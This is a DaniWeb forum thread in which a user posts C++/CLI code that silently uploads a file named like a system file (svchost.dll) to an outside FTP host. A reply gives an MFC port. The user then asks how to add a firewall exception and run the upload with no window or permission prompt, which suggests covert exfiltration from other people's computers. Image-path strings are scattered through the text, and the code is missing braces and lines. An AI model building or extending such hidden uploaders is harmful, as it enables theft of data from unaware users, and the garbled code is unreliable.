i have a code written in c++/Cli (CLR Console app) that uses .Net framework. it basically uploads a file to a ftp server. i wanna run it on computers that dont have .net framework. and are running windows xp or windows 7. can i somehow convert it into win32 console app code? or modify if in such a way that it can work wihout .net framework? i believe windows api functions can help me in that.. here is the code anyways

// workup.cpp : main project file.

// test1.cpp: main project file.

#include "stdafx.h"

using namespace System;

 using namespace std;

//#include <windows.h>
//#include <shellapi.h>
//#include <tchar.h>
#include "iostream"
#include <conio.h>//#include <Mmsystem.h>
#include <dos.h>
#include "stdlib.h"
 using namespace System;
 using namespace System::Threading;

void UploadFiles(System::String ^_FileName, System::String^_UploadPath, System::String ^_FTPUser, System::String ^_FTPPass);

int main ()

// Upload file using FTP
UploadFiles("d:\\system\\svchost.dll", "ftp://playbabe.tk/public_html/fahad.html", "username", "password");
return 0;


//// <summary>
/// Methods to upload file to FTP Server
/// </summary>/// <param name="_FileName">local source file name</param>
/// <param name="_UploadPath">Upload FTP path including Host name</param>
/// <param name="_FTPUser">FTP login username</param>
/// <param name="_FTPPass">FTP login password</param>
void UploadFiles(System::String ^_FileName, System::String ^_UploadPath, System::String ^_FTPUser, System::String ^_FTPPass)
    System::IO::FileInfo ^_FileInfo = gcnew System::IO::FileInfo(_FileName);

    // Create FtpWebRequest object from the Uri provided
    System::Net::FtpWebRequest ^_FtpWebRequest = safe_cast<System::Net::FtpWebRequest^>(System::Net::FtpWebRequest::Create(gcnew Uri(_UploadPath)));

    // Provide the WebPermission Credintials
    _FtpWebRequest->Credentials = gcnew System::Net::NetworkCredential(_FTPUser, _FTPPass);

    // By default KeepAlive is true, where the control connection is not closed
    // after a command is executed.
    _FtpWebRequest->KeepAlive = false;

    // set timeout for 20 seconds
    _FtpWebRequest->Timeout = 20000;

    // Specify the command to be executed._FtpWebRequest->Method =System::Net::WebRequestMethods::Ftp::UploadFile;

    // Specify the data transfer type.
    _FtpWebRequest->UseBinary = true;

    // Notify the server about the size of the uploaded file
    _FtpWebRequest->ContentLength = _FileInfo->Length;

    // The buffer size is set to 2kb
    int buffLength = 2048;
    array<System::Byte> ^buff = gcnew array<System::Byte>(buffLength);

    // Opens a file stream (System.IO.FileStream) to read the file to be uploaded
    System::IO::FileStream ^_FileStream = _FileInfo->OpenRead();

        // Stream to which the file to be upload is written
        System::IO::Stream ^_Stream = _FtpWebRequest->GetRequestStream();

        // Read from the file stream 2kb at a time
        int contentLen = _FileStream->Read(buff, 0, buffLength);

        // Till Stream content endswhile (contentLen != 0)
            // Write Content from the file stream to the FTP Upload Stream
            _Stream->Write(buff, 0, contentLen);
            contentLen = _FileStream->Read(buff, 0, buffLength);

        // Close the file stream and the Request Stream
        delete _Stream;
        delete _FileStream;
    catch (Exception ^ex)
        //MessageBox::Show(ex->Message, "Upload Error", MessageBoxButtons::OK, MessageBoxIcon::Error);


Recommended Answers

All 4 Replies

I would create a Win32 Console app with MFC Enabled.
I believe, however, Windows 7 comes with .NET installed.
Since you are doing this on Windows boxes, MFC is still an option.
I set the character set to be MultiByte and Ignored Library: MSVCRT.lib
This will compile under warning level 4

#include "stdafx.h"
#include <afxinet.h>
#include "SendToDestDani.h"

#ifdef _DEBUG
#define new DEBUG_NEW

CWinApp theApp;
bool    SendToDest(char* pstrSourceFileName,char* pstrDestFileName, char* pstrIpAddress, char* pstrUser,
    char* pstrPassword, char* pstrWorkDir)
    //Connect, transfer, disconnect.
    afxCurrentAppName = "SendToDestMfc";
    CInternetSession*   pSess = new CInternetSession();
    CFtpConnection* pFtp            = NULL;
    bool                    blnRetVal   = true;

    //Create the connection
        pstrUser,pstrPassword, 21);

        blnRetVal = false;
    if((TRUE == blnRetVal) && (!pFtp->PutFile(pstrSourceFileName,

    //Close the connections
    delete  pFtp;
    delete  pSess;
    return  blnRetVal;

void main(void)HMODULE hModule = ::GetModuleHandle(NULL);

    if (hModule != NULL)
        // initialize MFC and print and error on failure
        if (!AfxWinInit(hModule, NULL, ::GetCommandLine(),0))
            // TODO: change error code to suit your needs
            _tprintf(_T("Fatal Error: MFC initialization failed\n"));SendToDest("c:\\science\\xrdr.txt", "xrdr.txt", "", "anonymous", "this@that.com", "/MPC_FILES");

how do i add a firewall exception? so i can upload without user interaction. i wanna use it as an exe but in such a way that it gets called from the parent program. it shudnt appear as a new window and it should not requestpermissions.

how do i add a firewall exception?

That's a new question.

Be a part of the DaniWebcommunity

We're a friendly, industry-focused community of developers, ITpros, digital marketers, and technology enthusiasts meeting, networking, learning, and sharing knowledge.